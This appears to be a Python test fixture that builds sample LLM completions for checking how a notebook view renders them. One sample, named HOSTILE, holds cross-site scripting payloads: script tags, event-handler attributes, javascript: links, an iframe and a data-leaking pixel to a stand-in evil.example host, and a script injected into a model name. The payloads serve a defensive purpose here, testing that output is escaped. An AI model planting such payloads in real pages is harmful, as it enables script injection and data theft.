"""Completions of every kind that the notebook's view has to show."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal
from typing import Any
from uuid import UUID

from pydantic import BaseModel

from novellus_lab.errors import ContextWindowExceededError, RateLimitError
from novellus_lab.types import (
    Attempt,
    BatchFailure,
    CacheOutcome,
    Candidate,
    Completion,
    Price,
    PriceLine,
    Route,
    Status,
    ToolCall,
    Usage,
)


class Invoice(BaseModel):
    """What `response_format=Invoice` gives back."""

    number: str
    total: Decimal
    items: list[str]


def completion(content: str = "Blue.", **changes: Any) -> Completion:
    """A completion with the usual things in it."""
    fields: dict[str, Any] = {
        "model": "gpt-4o-mini",
        "provider": "openai",
        "cost": Decimal("0.000123"),
        "latency_ms": 812.4,
        "usage": Usage(input_tokens=24, output_tokens=187),
        "cache": CacheOutcome.MISS,
        "request_id": UUID("01993b1e-7c3a-7d0e-9f00-3a5f2f1c9b11"),
    }
    return Completion(content, **(fields | changes))


def attempt(number: int, model_id: str, **changes: Any) -> Attempt:
    """One provider call."""
    fields: dict[str, Any] = {
        "role": "primary",
        "provider": "openai",
        "started_at": datetime(2026, 11, 24, tzinfo=UTC),
        "status": Status.OK,
        "latency_ms": 420.0,
        "price": Price(
            Decimal("0.000123"),
            (
                PriceLine("input", 24, Decimal("0.15"), Decimal("0.0000036")),
                PriceLine("output", 199, Decimal("0.6"), Decimal("0.0001194")),
            ),
            version="genai-prices 0.2.3",
        ),
    }
    return Attempt(UUID(int=number), number, model_id=model_id, **(fields | changes))


LONG = r"""# Why the sky is blue

Sunlight holds **all colours**. Air molecules scatter short waves far more than long ones: this is
*Rayleigh scattering*, and its strength grows with the fourth power of frequency, \(I \propto \lambda^{-4}\).

## The numbers

| Colour | Wavelength (nm) | Scattered, relative |
|:-------|----------------:|--------------------:|
| Violet | 400 | 9.4 |
| Blue   | 450 | 5.9 |
| Green  | 530 | 3.1 |
| Red    | 700 | 1.0 |

1. Violet is scattered most, but
   - the sun sends less of it,
   - and our eyes see it less well.
2. So we see blue. A lamp for it costs ~~$12~~ $9 or $10.

```python
def scattered(wavelength_nm: float, reference: float = 700.0) -> float:
    # Strength of Rayleigh scattering, relative to red light.
    return round((reference / wavelength_nm) ** 4, 1)

print({nm: scattered(nm) for nm in (400, 450, 530, 700)})  # {400: 9.4, ...}
```

> "The blue of the sky is the light of the sun, scattered by the air." — see
> [Rayleigh, 1871](https://example.org/rayleigh) and `scipy.constants`.

\[
\sigma = \frac{2\pi^5}{3}\frac{d^6}{\lambda^4}
+ O(\lambda^{-6})
\]

![A diagram of the sky](https://example.org/sky.png)

---

### In short
The sky is blue because blue goes astray."""

HOSTILE = """<script>document.title = 'owned'</script>
<img src=x onerror="document.title='owned'"> **Bold** <b onclick="alert(1)">raw</b>

![pixel](https://evil.example/pixel.png?secret=1) [click](javascript:document.title='owned')
[data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)> </div></div><style>body{display:none}</style>

```"><script>document.title='owned'</script>
</code></pre><script>document.title='owned'</script>
```

| <svg onload=alert(1)> | `<i>` |
|---|---|
| <iframe src="https://evil.example"></iframe> | $x$ |
"""


def samples() -> list[tuple[str, Completion | BatchFailure]]:
    """Every kind, with a heading."""
    hit = {"cost": Decimal(0), "cost_saved": Decimal("0.00118"), "original_latency_ms": 1834.0}
    route = Route(
        "weighted", (Candidate("gpt-4o-mini", 0.7), Candidate("gpt-4o", 0.3)), "gpt-4o-mini", 0.7
    )
    return [
        ("A short answer", completion("The capital of France is **Paris**.", route=route)),
        (
            "A long answer",
            completion(
                LONG,
                model="claude-sonnet-4-5",
                provider="anthropic",
                cost=Decimal("0.0123"),
                latency_ms=6420.0,
                ttft_ms=388.0,
                usage=Usage(1024, 2210, 896, reasoning_tokens=512),
                reasoning="The user wants *physics*. I should name Rayleigh and give numbers.",
            ),
        ),
        (
            "Tool calls",
            completion(
                "",
                finish_reason="tool_calls",
                tool_calls=(
                    ToolCall(
                        "call_9fK2", "get_weather", '{"city":"Zürich","days":3,"units":["C","mm"]}'
                    ),
                    ToolCall("call_9fK3", "get_time", "{broken <json>"),
                ),
            ),
        ),
        (
            "A cache hit",
            completion(
                "The capital of France is Paris.",
                cache=CacheOutcome.MEMORY,
                latency_ms=0.048,
                **hit,
            ),
        ),
        (
            "A semantic hit",
            completion(
                "Paris.",
                cache=CacheOutcome.SEMANTIC,
                cache_similarity=0.9734,
                latency_ms=4.2,
                **hit,
            ),
        ),
        (
            "Unknown cost",
            completion(
                "Hallo!", model="my-own-llama", provider="ollama", cost=None, cache=CacheOutcome.OFF
            ),
        ),
        (
            "Replay",
            completion(
                "She has 3 + 4 = 7 apples.\n\n#### 7",
                model="replay/gpt-4-1106-preview",
                provider="replay",
                cost=Decimal("0.00214"),
            ),
        ),
        (
            "Structured",
            completion(
                '{"number": "R-17"}',
                parsed=Invoice(number="R-17", total=Decimal("12.50"), items=["lamp <b>", "cable"]),
            ),
        ),
        (
            "Failover, cut off, estimated",
            completion(
                "It begins with",
                finish_reason="length",
                model="gpt-4o-mini",
                usage=Usage(24, 4, estimated=True),
                dropped_params=("seed",),
                warnings=("Usage was never reported; tokens were counted here.",),
                attempts=(
                    attempt(1, "gpt-4o", status=Status.ERROR, error_class="RateLimitError"),
                    attempt(2, "gpt-4o-mini", role="failover"),
                ),
            ),
        ),
        (
            "Hostile",
            completion(
                HOSTILE, model='x"><script>alert(1)</script>', reasoning="<script>1</script>"
            ),
        ),
        ("Arabic", completion("السماء **زرقاء** بسبب تشتت الضوء.")),
        ("Nothing", completion("")),
        (
            "A failure",
            BatchFailure(
                RateLimitError(
                    "gpt-4o (openai) answered 429: too many <tokens> per minute. Wait, or lower max_concurrency.",
                    model="gpt-4o",
                    provider="openai",
                    status_code=429,
                    retry_after_s=20.0,
                ),
                3,
            ),
        ),
        (
            "Another",
            BatchFailure(
                ContextWindowExceededError(
                    "The prompt has 210,000 tokens; gpt-4o takes 128,000.", model="gpt-4o"
                ),
                7,
            ),
        ),
    ]
